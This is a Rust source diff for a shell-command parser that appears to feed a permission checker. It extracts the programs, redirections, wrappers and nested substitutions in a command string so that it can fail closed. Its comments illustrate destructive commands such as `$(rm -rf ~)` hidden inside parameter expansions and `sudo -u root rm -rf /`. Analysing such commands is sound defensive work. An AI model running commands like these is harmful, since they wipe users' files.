@@ -1,12 +1,111 @@
-use brush_parser::ast;
+use brush_parser::{ast, word};
 
 use crate::domain::ProgramName;
 
+mod cwd;
+mod embedded;
+
+use cwd::DirState;
+pub(crate) use cwd::WorkingDir;
+
 /// A parsed segment of a shell command, representing one program invocation.
 #[derive(Debug, PartialEq)]
 pub(crate) struct CommandSegment {
     pub(crate) program: ProgramName,
     pub(crate) args: Vec<String>,
+    /// Where the program runs, after any `cd` before it.
+    pub(crate) cwd: WorkingDir,
+}
+
+impl std::fmt::Display for CommandSegment {
+    /// The program followed by its (normalized) arguments.
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.write_str(self.program.as_str())?;
+        for arg in &self.args {
+            write!(f, " {arg}")?;
+        }
+        Ok(())
+    }
+}
+
+/// Direction of a file redirection, as seen by the redirected command.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(crate) enum RedirectDirection {
+    /// `<` — the command reads the file.
+    Read,
+    /// `>`, `>>`, `>|`, `&>`, `2>` — the command writes the file.
+    Write,
+    /// `<>` — the command opens the file for reading and writing.
+    ReadWrite,
+}
+
+/// A file named as the target of a redirection, e.g. `> out.txt`.
+#[derive(Debug, PartialEq)]
+pub(crate) struct Redirect {
+    /// Target path with outer quotes removed. May still contain expansions
+    /// like `$HOME` that cannot be resolved statically.
+    pub(crate) target: String,
+    pub(crate) direction: RedirectDirection,
+    /// The directory a relative target is opened in.
+    pub(crate) cwd: WorkingDir,
+}
+
+/// A wrapper or launcher stepped through to reach the program it runs.
+#[derive(Debug, PartialEq)]
+pub(crate) struct Unwrap {
+    /// Wrapper basename (`env`, `sudo`).
+    pub(crate) wrapper: String,
+    /// Options, assignments, and operands the wrapper consumed.
+    pub(crate) consumed: Vec<String>,
+    /// Whether the wrapper is a launcher, kept as its own segment.
+    pub(crate) launcher: bool,
+}
+
+/// Everything extracted from a command string: the programs it runs and the
+/// files its redirections open.
+#[derive(Debug, Default, PartialEq)]
+pub(crate) struct ParsedCommand {
+    pub(crate) segments: Vec<CommandSegment>,
+    pub(crate) redirects: Vec<Redirect>,
+    /// Wrappers unwrapped along the way, in the order they were met.
+    pub(crate) unwraps: Vec<Unwrap>,
+}
+
+impl ParsedCommand {
+    /// Move the segments, redirects, and unwraps of `other` onto the end of `self`.
+    fn append(&mut self, mut other: ParsedCommand) {
+        self.segments.append(&mut other.segments);
+        self.redirects.append(&mut other.redirects);
+        self.unwraps.append(&mut other.unwraps);
+    }
+
+    /// Where segments and redirects found from now on will start.
+    fn mark(&self) -> Mark {
+        Mark {
+            segments: self.segments.len(),
+            redirects: self.redirects.len(),
+        }
+    }
+
+    /// Place everything found since `mark` in `cwd`.
+    ///
+    /// Their own directories are relative to the command string they were
+    /// found in, which starts in `cwd`.
+    fn place(&mut self, mark: Mark, cwd: &WorkingDir) {
+        for segment in &mut self.segments[mark.segments..] {
+            segment.cwd = cwd.within(&segment.cwd);
+        }
+        for redirect in &mut self.redirects[mark.redirects..] {
+            redirect.cwd = cwd.within(&redirect.cwd);
+        }
+    }
+}
+
+/// Positions in a [`ParsedCommand`] under construction.
+#[derive(Debug, Clone, Copy)]
+struct Mark {
+    segments: usize,
+    redirects: usize,
 }
 
 /// Error returned when a command string cannot be parsed.
@@ -14,16 +113,70 @@ pub(crate) struct CommandSegment {
 #[error("{0}")]
 pub struct ParseError(pub String);
 
+/// Default limit on how many command strings deep nested parsing may go.
+///
+/// Each command substitution, process substitution, `env -S` string,
+/// `bash -c` payload, or `eval` argument adds one level.
+pub(crate) const DEFAULT_MAX_NESTING_DEPTH: usize = 5;
+
 /// Parse a shell command string into individual command segments.
 ///
 /// Uses brush-parser to build a proper shell AST, then walks it to extract
 /// program names. Correctly handles quoting, escaping, subshells, and
-/// compound commands.
+/// compound commands. Bodies of command substitutions (`$(...)`, backticks)
+/// and process substitutions (`<(...)`, `>(...)`) are parsed with the same
+/// visitor and emitted as additional segments after the enclosing command.
 ///
-/// Returns `Err` on parse failures so the caller can fail closed.
+/// Returns `Err` on parse failures (including inside nested bodies) so the
+/// caller can fail closed.
 pub(crate) fn parse(command: &str) -> Result<Vec<CommandSegment>, ParseError> {
+    parse_with_depth_limit(command, DEFAULT_MAX_NESTING_DEPTH).map(|parsed| parsed.segments)
+}
+
+/// Parse a shell command string into segments and redirections, allowing at
+/// most `max_depth` levels of nested command strings.
+///
+/// Returns `Err` when a nested command string would exceed the limit, so
+/// deeply nested payloads fail closed instead of going unexamined.
+pub(crate) fn parse_with_depth_limit(
+    command: &str,
+    max_depth: usize,
+) -> Result<ParsedCommand, ParseError> {
+    parse_nested(
+        command,
+        Nesting {
+            depth: 0,
+            limit: max_depth,
+        },
+    )
+}
+
+/// How deep the current command string is nested inside its outermost command.
+#[derive(Debug, Clone, Copy)]
+struct Nesting {
+    depth: usize,
+    limit: usize,
+}
+
+impl Nesting {
+    /// Descend one level, failing when the limit would be exceeded.
+    fn enter(self) -> Result<Self, ParseError> {
+        if self.depth >= self.limit {
+            return Err(ParseError(format!(
+                "nested commands exceed the depth limit of {}",
+                self.limit
+            )));
+        }
+        Ok(Self {
+            depth: self.depth + 1,
+            ..self
+        })
+    }
+}
+
+fn parse_nested(command: &str, nesting: Nesting) -> Result<ParsedCommand, ParseError> {
     if command.trim().is_empty() {
-        return Ok(vec![]);
+        return Ok(ParsedCommand::default());
     }
 
     let mut parser = brush_parser::Parser::builder()
@@ -34,9 +187,9 @@ pub(crate) fn parse(command: &str) -> Result<Vec<CommandSegment>, ParseError> {
         .parse_program()
         .map_err(|e| ParseError(e.to_string()))?;
 
-    let mut segments = Vec::new();
-    visit_program(&program, &mut segments);
-    Ok(segments)
+    let mut parsed = ParsedCommand::default();
+    visit_program(&program, &mut parsed, nesting, &mut DirState::default())?;
+    Ok(parsed)
 }
 
 /// Expand combined short flags into individual flags.
@@ -61,31 +214,68 @@ pub(crate) fn expand_flags(arg: &str) -> Vec<String> {
     chars.iter().map(|c| format!("-{c}")).collect()
 }
 
-fn visit_program(program: &ast::Program, segments: &mut Vec<CommandSegment>) {
+fn visit_program(
+    program: &ast::Program,
+    out: &mut ParsedCommand,
+    nesting: Nesting,
+    dirs: &mut DirState,
+) -> Result<(), ParseError> {
+    // CompleteCommand = CompoundList
     for complete_command in &program.complete_commands {
-        // CompleteCommand = CompoundList, CompoundList.0 = Vec<CompoundListItem>
-        // CompoundListItem(AndOrList, SeparatorOperator)
-        for item in &complete_command.0 {
-            visit_and_or_list(&item.0, segments);
-        }
+        visit_compound_list(complete_command, out, nesting, dirs)?;
     }
+    Ok(())
 }
 
-fn visit_and_or_list(list: &ast::AndOrList, segments: &mut Vec<CommandSegment>) {
-    visit_pipeline(&list.first, segments);
+/// Walk an AND/OR list, following directory changes.
+///
+/// The pipeline after `&&` runs only once the one before it succeeded, so a
+/// `cd` there has taken effect. After an `||`, and once the list is over,
+/// the shell may be in any directory the list passed through, since any
+/// pipeline may have been the last to run.
+fn visit_and_or_list(
+    list: &ast::AndOrList,
+    out: &mut ParsedCommand,
+    nesting: Nesting,
+    dirs: &mut DirState,
+) -> Result<(), ParseError> {
+    let mut passed = dirs.clone();
+    visit_pipeline(&list.first, out, nesting, dirs)?;
+    passed.merge(dirs);
+    let mut branched = false;
     for and_or in &list.additional {
-        match and_or {
-            ast::AndOr::And(pipeline) | ast::AndOr::Or(pipeline) => {
-                visit_pipeline(pipeline, segments);
+        let pipeline = match and_or {
+            ast::AndOr::And(pipeline) => pipeline,
+            ast::AndOr::Or(pipeline) => {
+                branched = true;
+                pipeline
             }
+        };
+        if branched {
+            *dirs = passed.clone();
         }
+        visit_pipeline(pipeline, out, nesting, dirs)?;
+        passed.merge(dirs);
     }
+    *dirs = passed;
+    Ok(())
 }
 
-fn visit_pipeline(pipeline: &ast::Pipeline, segments: &mut Vec<CommandSegment>) {
+/// Walk a pipeline. Each command of a multi-command pipeline runs in its
+/// own subshell, so its `cd` does not outlive it.
+fn visit_pipeline(
+    pipeline: &ast::Pipeline,
+    out: &mut ParsedCommand,
+    nesting: Nesting,
+    dirs: &mut DirState,
+) -> Result<(), ParseError> {
+    if let [command] = pipeline.seq.as_slice() {
+        return visit_command(command, out, nesting, dirs);
+    }
     for command in &pipeline.seq {
-        visit_command(command, segments);
+        visit_command(command, out, nesting, &mut dirs.clone())?;
     }
+    Ok(())
 }
 
 /// Shell builtins and utilities that transparently execute another program.
@@ -93,74 +283,497 @@ fn visit_pipeline(pipeline: &ast::Pipeline, segments: &mut Vec<CommandSegment>)
 /// is found in the suffix (arguments).
 const TRANSPARENT_WRAPPERS: &[&str] = &["command", "env", "nohup", "exec", "builtin"];
 
-fn visit_command(command: &ast::Command, segments: &mut Vec<CommandSegment>) {
+/// Launchers that run another program with altered privileges, scheduling,
+/// limits, or buffering.
+///
+/// Unlike transparent wrappers, the launcher itself is permission-relevant
+/// (`sudo` changes who runs the program), so both the launcher and the
+/// program it launches are emitted as segments. Rules can target either one.
+const LAUNCHERS: &[&str] = &[
+    "sudo", "doas", "nice", "ionice", "time", "timeout", "xargs", "stdbuf", "chrt", "taskset",
+    "setsid",
+];
+
+fn visit_command(
+    command: &ast::Command,
+    out: &mut ParsedCommand,
+    nesting: Nesting,
+    dirs: &mut DirState,
+) -> Result<(), ParseError> {
+    let mark = out.mark();
     match command {
         ast::Command::Simple(simple) => {
-            if let Some(word) = &simple.word_or_name {
-                let name = word.flatten();
-                if !name.is_empty() {
-                    let basename = std::path::Path::new(&name)
-                        .file_name()
-                        .and_then(|f| f.to_str())
-                        .unwrap_or(&name);
-
-                    // If this is a transparent wrapper, extract only the wrapped program(s).
-                    // Wrappers like `command`, `env`, `nohup` are shell mechanisms — the
-                    // permission-relevant program is the one they launch, not the wrapper.
-                    if TRANSPARENT_WRAPPERS.contains(&basename) {
-                        if let Some(suffix) = &simple.suffix {
-                            let unwrapped = extract_wrapped_programs(suffix, basename);
-                            if !unwrapped.is_empty() {
-                                segments.extend(unwrapped);
-                                return;
-                            }
-                        }
-                    }
+            let unwraps = out.unwraps.len();
+            visit_simple_command(simple, out, nesting)?;
+            let own = out.segments.len();
+            visit_simple_command_words(simple, out, nesting)?;
+            out.place(mark, &dirs.cwd);
+            dirs.follow(&out.segments[mark.segments..own], &out.unwraps[unwraps..]);
+        }
+        ast::Command::Compound(compound, redirects) => {
+            let cwd = dirs.cwd.clone();
+            visit_compound(compound, out, nesting, dirs)?;
+            let mark = out.mark();
+            visit_redirect_list(redirects.as_ref(), out, nesting)?;
+            out.place(mark, &cwd);
+        }
+        ast::Command::Function(func) => {
+            // A function that changes directory may be called anywhere after
+            // its definition.
+            let mut body = dirs.clone();
+            visit_compound(&func.body.0, out, nesting, &mut body)?;
+            let mark = out.mark();
+            visit_redirect_list(func.body.1.as_ref(), out, nesting)?;
+            out.place(mark, &dirs.cwd);
+            if body != *dirs {
+                dirs.forget();
+            }
+        }
+        // [[ ]] doesn't execute programs, but its operands may substitute commands
+        ast::Command::ExtendedTest(test) => {
+            visit_extended_test(&test.expr, out, nesting)?;
+            out.place(mark, &dirs.cwd);
+        }
+    }
+    Ok(())
+}
 
-                    // Not a wrapper (or wrapper with no arguments) — emit as-is
-                    let args = extract_args_from_suffix(&simple.suffix);
-                    segments.push(CommandSegment {
-                        program: ProgramName::new(&name),
-                        args,
-                    });
-                }
+/// Emit the segment(s) for a simple command's program, unwrapping wrappers.
+fn visit_simple_command(
+    simple: &ast::SimpleCommand,
+    out: &mut ParsedCommand,
+    nesting: Nesting,
+) -> Result<(), ParseError> {
+    let Some(word) = &simple.word_or_name else {
+        return Ok(());
+    };
+    let name = word.flatten();
+    if name.is_empty() {
+        return Ok(());
+    }
+    let basename = std::path::Path::new(&name)
+        .file_name()
+        .and_then(|f| f.to_str())
+        .unwrap_or(&name);
+
+    // If this is a wrapper or launcher, extract the wrapped program(s).
+    // Wrappers like `command`, `env`, `nohup` are shell mechanisms — the
+    // permission-relevant program is the one they launch, not the wrapper.
+    // Launchers like `sudo` are recorded alongside the launched program.
+    if is_wrapper(basename) {
+        if let Some(suffix) = &simple.suffix {
+            let unwrapped = extract_wrapped_programs(suffix, basename, nesting)?;
+            if !unwrapped.segments.is_empty() {
+                out.append(unwrapped);
+                return Ok(());
             }
         }
-        ast::Command::Compound(compound, _) => visit_compound(compound, segments),
-        ast::Command::Function(func) => visit_compound(&func.body.0, segments),
-        ast::Command::ExtendedTest(_) => {} // [[ ]] doesn't execute programs
     }
+
+    // Not a wrapper (or wrapper with no arguments) — emit as-is
+    let words = extract_words_from_suffix(&simple.suffix);
+    out.append(program_segments(&name, &words, nesting)?);
+    Ok(())
 }
 
-/// Extract arguments from a command suffix, applying flag expansion.
+/// Build the segment for a program invocation, followed by segments for any
+/// commands embedded in its arguments.
 ///
-/// Iterates suffix items, skips I/O redirections, assignment words, and process
-/// substitutions. For each `Word` item, flattens it to a string and applies
-/// `expand_flags()` to normalize combined short flags. After encountering `--`,
-/// all subsequent tokens are treated as positionals (no expansion).
-fn extract_args_from_suffix(suffix: &Option<ast::CommandSuffix>) -> Vec<String> {
-    let Some(suffix) = suffix else {
-        return vec![];
+/// Embedded commands (`bash -c '...'`, `eval ...`, `find -exec ... ;`,
+/// `parallel`, `watch`, `git -c alias.x='!...'`) are parsed one nesting level
+/// deeper. See [`embedded::embedded_commands`] for the recognized forms.
+fn program_segments(
+    program: &str,
+    words: &[String],
+    nesting: Nesting,
+) -> Result<ParsedCommand, ParseError> {
+    let segment = CommandSegment {
+        program: ProgramName::new(program),
+        args: expand_args(words),
+        cwd: WorkingDir::default(),
     };
-    let mut args = Vec::new();
-    let mut end_of_options = false;
-    for item in &suffix.0 {
-        if let ast::CommandPrefixOrSuffixItem::Word(word) = item {
-            let text = word.flatten();
-            if text == "--" {
-                end_of_options = true;
-                args.push(text);
-                continue;
+    let embedded = embedded::embedded_commands(segment.program.as_str(), words);
+    let mut parsed = ParsedCommand {
+        segments: vec![segment],
+        ..Default::default()
+    };
+    for command in embedded {
+        parsed.append(parse_nested(&command, nesting.enter()?)?);
+    }
+    Ok(parsed)
+}
+
+/// Walk every word and redirection of a simple command for nested commands.
+///
+/// Command substitutions in assignments, the command name, arguments, and
+/// redirection targets all execute before the command itself runs.
+fn visit_simple_command_words(
+    simple: &ast::SimpleCommand,
+    out: &mut ParsedCommand,
+    nesting: Nesting,
+) -> Result<(), ParseError> {
+    if let Some(prefix) = &simple.prefix {
+        for item in &prefix.0 {
+            visit_prefix_or_suffix_item(item, out, nesting)?;
+        }
+    }
+    if let Some(word) = &simple.word_or_name {
+        visit_word(word, out, nesting)?;
+    }
+    if let Some(suffix) = &simple.suffix {
+        for item in &suffix.0 {
+            visit_prefix_or_suffix_item(item, out, nesting)?;
+        }
+    }
+    Ok(())
+}
+
+fn visit_prefix_or_suffix_item(
+    item: &ast::CommandPrefixOrSuffixItem,
+    out: &mut ParsedCommand,
+    nesting: Nesting,
+) -> Result<(), ParseError> {
+    match item {
+        ast::CommandPrefixOrSuffixItem::Word(word)
+        | ast::CommandPrefixOrSuffixItem::AssignmentWord(_, word) => visit_word(word, out, nesting),
+        ast::CommandPrefixOrSuffixItem::IoRedirect(redirect) => {
+            visit_redirect(redirect, out, nesting)
+        }
+        ast::CommandPrefixOrSuffixItem::ProcessSubstitution(_, subshell) => visit_compound_list(
+            &subshell.list,
+            out,
+            nesting.enter()?,
+            &mut DirState::default(),
+        ),
+    }
+}
+
+fn visit_redirect_list(
+    redirects: Option<&ast::RedirectList>,
+    out: &mut ParsedCommand,
+    nesting: Nesting,
+) -> Result<(), ParseError> {
+    if let Some(list) = redirects {
+        for redirect in &list.0 {
+            visit_redirect(redirect, out, nesting)?;
+        }
+    }
+    Ok(())
+}
+
+fn visit_redirect(
+    redirect: &ast::IoRedirect,
+    out: &mut ParsedCommand,
+    nesting: Nesting,
+) -> Result<(), ParseError> {
+    if let Some(target) = redirect_target(redirect) {
+        out.redirects.push(target);
+    }
+    match redirect {
+        ast::IoRedirect::File(_, _, target) => match target {
+            ast::IoFileRedirectTarget::Filename(word)
+            | ast::IoFileRedirectTarget::Duplicate(word) => visit_word(word, out, nesting),
+            ast::IoFileRedirectTarget::ProcessSubstitution(_, subshell) => visit_compound_list(
+                &subshell.list,
+                out,
+                nesting.enter()?,
+                &mut DirState::default(),
+            ),
+            ast::IoFileRedirectTarget::Fd(_) => Ok(()),
+        },
+        ast::IoRedirect::HereDocument(_, doc) if doc.requires_expansion => {
+            visit_word_text(&escape_here_document_quotes(&doc.doc.value), out, nesting)
+        }
+        ast::IoRedirect::HereDocument(..) => Ok(()),
+        ast::IoRedirect::HereString(_, word) | ast::IoRedirect::OutputAndError(word, _) => {
+            visit_word(word, out, nesting)
+        }
+    }
+}
+
+/// Device files that redirections commonly name without touching real files.
+const PSEUDO_DEVICES: &[&str] = &[
+    "/dev/null",
+    "/dev/stdin",
+    "/dev/stdout",
+    "/dev/stderr",
+    "/dev/tty",
+];
+
+/// Extract the file a redirection opens, with its direction.
+///
+/// File descriptor duplications (`2>&1`, `>&-`), here-documents, here-strings,
+/// process substitutions, and pseudo-devices like `/dev/null` open no file
+/// and yield `None`.
+fn redirect_target(redirect: &ast::IoRedirect) -> Option<Redirect> {
+    let (word, direction) = match redirect {
+        ast::IoRedirect::File(_, kind, target) => {
+            let direction = match kind {
+                ast::IoFileRedirectKind::Read | ast::IoFileRedirectKind::DuplicateInput => {
+                    RedirectDirection::Read
+                }
+                ast::IoFileRedirectKind::Write
+                | ast::IoFileRedirectKind::Append
+                | ast::IoFileRedirectKind::Clobber
+                | ast::IoFileRedirectKind::DuplicateOutput => RedirectDirection::Write,
+                ast::IoFileRedirectKind::ReadAndWrite => RedirectDirection::ReadWrite,
+            };
+            match target {
+                ast::IoFileRedirectTarget::Filename(word) => (word, direction),
+                // `>&file` is `&>file`; `>&2` and `>&-` duplicate or close descriptors
+                ast::IoFileRedirectTarget::Duplicate(word) if !is_fd_reference(&word.value) => {
+                    (word, direction)
+                }
+                _ => return None,
+            }
+        }
+        ast::IoRedirect::OutputAndError(word, _) => (word, RedirectDirection::Write),
+        ast::IoRedirect::HereDocument(..) | ast::IoRedirect::HereString(..) => return None,
+    };
+    let raw = word.flatten();
+    let target = unquote(&raw).unwrap_or(raw);
+    if target.is_empty()
+        || PSEUDO_DEVICES.contains(&target.as_str())
+        || target.starts_with("/dev/fd/")
+    {
+        return None;
+    }
+    Some(Redirect {
+        target,
+        direction,
+        cwd: WorkingDir::default(),
+    })
+}
+
+/// Whether a duplication target names a file descriptor (`1`, `2-`, `-`).
+fn is_fd_reference(target: &str) -> bool {
+    let digits = target.strip_suffix('-').unwrap_or(target);
+    digits.chars().all(|c| c.is_ascii_digit())
+}
+
+fn visit_extended_test(
+    expr: &ast::ExtendedTestExpr,
+    out: &mut ParsedCommand,
+    nesting: Nesting,
+) -> Result<(), ParseError> {
+    match expr {
+        ast::ExtendedTestExpr::And(left, right) | ast::ExtendedTestExpr::Or(left, right) => {
+            visit_extended_test(left, out, nesting)?;
+            visit_extended_test(right, out, nesting)
+        }
+        ast::ExtendedTestExpr::Not(inner) | ast::ExtendedTestExpr::Parenthesized(inner) => {
+            visit_extended_test(inner, out, nesting)
+        }
+        ast::ExtendedTestExpr::UnaryTest(_, word) => visit_word(word, out, nesting),
+        ast::ExtendedTestExpr::BinaryTest(_, left, right) => {
+            visit_word(left, out, nesting)?;
+            visit_word(right, out, nesting)
+        }
+    }
+}
+
+fn visit_word(
+    word: &ast::Word,
+    out: &mut ParsedCommand,
+    nesting: Nesting,
+) -> Result<(), ParseError> {
+    visit_word_text(&word.value, out, nesting)
+}
+
+/// Parse raw word text and emit segments for any command substitutions in it.
+///
+/// Words without `$` or a backtick cannot substitute commands and skip the
+/// word parser entirely.
+fn visit_word_text(
+    text: &str,
+    out: &mut ParsedCommand,
+    nesting: Nesting,
+) -> Result<(), ParseError> {
+    if !text.contains('$') && !text.contains('`') {
+        return Ok(());
+    }
+    let pieces = brush_parser::word::parse(text, &brush_parser::ParserOptions::default())
+        .map_err(|e| ParseError(e.to_string()))?;
+    visit_word_pieces(&pieces, out, nesting)
+}
+
+fn visit_word_pieces(
+    pieces: &[word::WordPieceWithSource],
+    out: &mut ParsedCommand,
+    nesting: Nesting,
+) -> Result<(), ParseError> {
+    for piece in pieces {
+        match &piece.piece {
+            word::WordPiece::CommandSubstitution(body)
+            | word::WordPiece::BackquotedCommandSubstitution(body) => {
+                out.append(parse_nested(body, nesting.enter()?)?);
+            }
+            word::WordPiece::DoubleQuotedSequence(inner)
+            | word::WordPiece::GettextDoubleQuotedSequence(inner) => {
+                visit_word_pieces(inner, out, nesting)?;
             }
-            if end_of_options {
-                args.push(text);
-            } else {
-                args.extend(expand_flags(&text));
+            word::WordPiece::ParameterExpansion(expr) => {
+                visit_parameter_expr(expr, out, nesting)?;
             }
+            word::WordPiece::ArithmeticExpression(expr) => {
+                visit_word_text(&expr.value, out, nesting)?;
+            }
+            _ => {}
         }
-        // IoRedirect, AssignmentWord, ProcessSubstitution — skip
     }
-    args
+    Ok(())
+}
+
+/// Parameter expansions carry nested words that are expanded on use,
+/// e.g. `${VAR:-$(rm -rf ~)}`, `${VAR#$(rm -rf ~)}` or `${VAR:$(rm -rf ~)}`.
+fn visit_parameter_expr(
+    expr: &word::ParameterExpr,
+    out: &mut ParsedCommand,
+    nesting: Nesting,
+) -> Result<(), ParseError> {
+    for text in parameter_expr_words(expr) {
+        visit_word_text(text, out, nesting)?;
+    }
+    Ok(())
+}
+
+/// The nested words of a parameter expansion: operands, patterns, substring
+/// offsets, and array subscripts. The match is exhaustive so a new expansion
+/// form cannot be added without deciding which of its words are walked.
+fn parameter_expr_words(expr: &word::ParameterExpr) -> Vec<&str> {
+    use word::ParameterExpr as P;
+
+    let (parameter, operands): (Option<&word::Parameter>, Vec<Option<&str>>) = match expr {
+        P::Parameter { parameter, .. }
+        | P::ParameterLength { parameter, .. }
+        | P::Transform { parameter, .. } => (Some(parameter), vec![]),
+        P::UseDefaultValues {
+            parameter,
+            default_value: operand,
+            ..
+        }
+        | P::AssignDefaultValues {
+            parameter,
+            default_value: operand,
+            ..
+        }
+        | P::IndicateErrorIfNullOrUnset {
+            parameter,
+            error_message: operand,
+            ..
+        }
+        | P::UseAlternativeValue {
+            parameter,
+            alternative_value: operand,
+            ..
+        }
+        | P::RemoveSmallestSuffixPattern {
+            parameter,
+            pattern: operand,
+            ..
+        }
+        | P::RemoveLargestSuffixPattern {
+            parameter,
+            pattern: operand,
+            ..
+        }
+        | P::RemoveSmallestPrefixPattern {
+            parameter,
+            pattern: operand,
+            ..
+        }
+        | P::RemoveLargestPrefixPattern {
+            parameter,
+            pattern: operand,
+            ..
+        }
+        | P::UppercaseFirstChar {
+            parameter,
+            pattern: operand,
+            ..
+        }
+        | P::UppercasePattern {
+            parameter,
+            pattern: operand,
+            ..
+        }
+        | P::LowercaseFirstChar {
+            parameter,
+            pattern: operand,
+            ..
+        }
+        | P::LowercasePattern {
+            parameter,
+            pattern: operand,
+            ..
+        } => (Some(parameter), vec![operand.as_deref()]),
+        P::ReplaceSubstring {
+            parameter,
+            pattern,
+            replacement,
+            ..
+        } => (
+            Some(parameter),
+            vec![Some(pattern.as_str()), replacement.as_deref()],
+        ),
+        P::Substring {
+            parameter,
+            offset,
+            length,
+            ..
+        } => (
+            Some(parameter),
+            vec![
+                Some(offset.value.as_str()),
+                length.as_ref().map(|l| l.value.as_str()),
+            ],
+        ),
+        P::VariableNames { .. } | P::MemberKeys { .. } => (None, vec![]),
+    };
+
+    let subscript = match parameter {
+        Some(word::Parameter::NamedWithIndex { index, .. }) => Some(index.as_str()),
+        _ => None,
+    };
+    operands.into_iter().chain([subscript]).flatten().collect()
+}
+
+/// Escape quote characters in an unquoted here-document body.
+///
+/// Quotes are literal inside here-documents, but the word parser would treat
+/// an apostrophe as an unterminated single quote. Escaping them keeps `$(...)`
+/// and backtick substitutions visible while parsing the rest as plain text.
+fn escape_here_document_quotes(body: &str) -> String {
+    let mut escaped = String::with_capacity(body.len());
+    for c in body.chars() {
+        if c == '\'' || c == '"' {
+            escaped.push('\\');
+        }
+        escaped.push(c);
+    }
+    escaped
+}
+
+/// Whether a program basename is a transparent wrapper or a launcher.
+fn is_wrapper(basename: &str) -> bool {
+    TRANSPARENT_WRAPPERS.contains(&basename) || is_launcher(basename)
+}
+
+/// Whether a program name is a launcher recorded alongside its target.
+pub(crate) fn is_launcher(program: &str) -> bool {
+    LAUNCHERS.contains(&program)
+}
+
+/// Extract the raw words of a command suffix.
+///
+/// Skips I/O redirections and process substitutions.
+/// Words keep their original quoting; see [`expand_args`] for the normalized
+/// argument list.
+fn extract_words_from_suffix(suffix: &Option<ast::CommandSuffix>) -> Vec<String> {
+    let Some(suffix) = suffix else {
+        return vec![];
+    };
+    collect_remaining_words(&mut suffix.0.iter())
 }
 
 /// Walk suffix arguments to find the actual program(s) behind wrapper commands.
@@ -168,80 +781,126 @@ fn extract_args_from_suffix(suffix: &Option<ast::CommandSuffix>) -> Vec<String>
 /// Skips option flags (starting with `-`), env-style assignments (containing `=`),
 /// and option arguments consumed by known flags (e.g., `env -u NAME`, `exec -a NAME`).
 /// Handles nested wrappers: `env command rm` returns only `["rm"]`.
+///
+/// Launchers are emitted as their own segment carrying the options and operands
+/// they consumed: `sudo -u root rm -rf /` returns `["sudo", "rm"]`, with `sudo`
+/// holding `["-u", "root"]`.
 fn extract_wrapped_programs(
     suffix: &ast::CommandSuffix,
     initial_wrapper: &str,
-) -> Vec<CommandSegment> {
-    let mut result = Vec::new();
+    nesting: Nesting,
+) -> Result<ParsedCommand, ParseError> {
+    let mut result = ParsedCommand::default();
     let mut items = suffix.0.iter();
     let mut current_wrapper = initial_wrapper.to_string();
 
     loop {
         let consuming_opts = consuming_options_for(&current_wrapper);
+        let operands = leading_operands_for(&current_wrapper);
+        let mut wrapper_args = Vec::new();
+        let next = find_next_program(
+            &mut items,
+            consuming_opts,
+            operands,
+            &mut wrapper_args,
+            nesting,
+        )?;
+
+        // Launchers are recorded with their own options. A transparent wrapper
+        // nested under a launcher with nothing to run is recorded too, so
+        // `sudo env` still surfaces `env`.
+        let is_dangling = matches!(next, NextProgram::None) && !result.segments.is_empty();
+        result.unwraps.push(Unwrap {
+            wrapper: current_wrapper.clone(),
+            consumed: wrapper_args.clone(),
+            launcher: is_launcher(&current_wrapper),
+        });
+        if is_launcher(&current_wrapper) || is_dangling {
+            result.segments.push(CommandSegment {
+                program: ProgramName::new(&current_wrapper),
+                args: wrapper_args,
+                cwd: WorkingDir::default(),
+            });
+        }
 
-        match find_next_program(&mut items, consuming_opts) {
+        match next {
             NextProgram::Single(prog) => {
                 let basename = std::path::Path::new(&prog)
                     .file_name()
                     .and_then(|f| f.to_str())
                     .unwrap_or(&prog);
-                if TRANSPARENT_WRAPPERS.contains(&basename) {
+                if is_wrapper(basename) {
                     // Another wrapper — update context and continue unwrapping
                     current_wrapper = basename.to_string();
                     continue;
                 }
                 // Found the actual target program — collect remaining items as args
-                let args = collect_remaining_args(&mut items);
-                result.push(CommandSegment {
-                    program: ProgramName::new(&prog),
-                    args,
-                });
+                let words = collect_remaining_words(&mut items);
+                result.append(program_segments(&prog, &words, nesting)?);
                 break;
             }
-            NextProgram::FromSplitString(mut segments) => {
+            NextProgram::FromSplitString(mut parsed) => {
                 // Programs extracted from a -S command string.
                 // Collect remaining suffix args (after the -S value) and append
                 // them to the last segment — they are additional args to the
                 // command specified in the split string.
-                let trailing = collect_remaining_args(&mut items);
+                let trailing = expand_args(&collect_remaining_words(&mut items));
                 if !trailing.is_empty() {
-                    if let Some(last) = segments.last_mut() {
+                    if let Some(last) = parsed.segments.last_mut() {
                         last.args.extend(trailing);
                     }
                 }
-                result.extend(segments);
+                result.append(parsed);
                 break;
             }
             NextProgram::None => break,
         }
     }
 
-    result
+    Ok(result)
 }
 
-/// Collect remaining suffix items as args, applying flag expansion.
+/// Collect remaining suffix items as raw words.
 ///
 /// Used after the target program has been identified in wrapper unwrapping.
-/// Skips IoRedirect, AssignmentWord, and ProcessSubstitution items.
-/// After encountering `--`, all subsequent tokens are treated as positionals.
-fn collect_remaining_args<'a>(
+/// Skips IoRedirect and ProcessSubstitution items.
+fn collect_remaining_words<'a>(
     items: &mut impl Iterator<Item = &'a ast::CommandPrefixOrSuffixItem>,
 ) -> Vec<String> {
+    items
+        .filter_map(suffix_word)
+        .map(|word| word.flatten())
+        .collect()
+}
+
+/// The word a suffix item passes to the program, if any.
+///
+/// After the command name, an assignment-shaped word like `x=y` is an
+/// ordinary argument (`git -c x=y push`), so it is kept alongside plain words.
+fn suffix_word(item: &ast::CommandPrefixOrSuffixItem) -> Option<&ast::Word> {
+    match item {
+        ast::CommandPrefixOrSuffixItem::Word(word)
+        | ast::CommandPrefixOrSuffixItem::AssignmentWord(_, word) => Some(word),
+        _ => None,
+    }
+}
+
+/// Turn raw words into segment args, applying flag expansion.
+///
+/// After encountering `--`, all subsequent tokens are treated as positionals.
+fn expand_args(words: &[String]) -> Vec<String> {
     let mut args = Vec::new();
     let mut end_of_options = false;
-    for item in items {
-        if let ast::CommandPrefixOrSuffixItem::Word(word) = item {
-            let text = word.flatten();
-            if text == "--" {
-                end_of_options = true;
-                args.push(text);
-                continue;
-            }
-            if end_of_options {
-                args.push(text);
-            } else {
-                args.extend(expand_flags(&text));
-            }
+    for text in words {
+        if text == "--" {
+            end_of_options = true;
+            args.push(text.clone());
+            continue;
+        }
+        if end_of_options {
+            args.push(text.clone());
+        } else {
+            args.extend(expand_flags(text));
         }
     }
     args
@@ -250,7 +909,8 @@ fn collect_remaining_args<'a>(
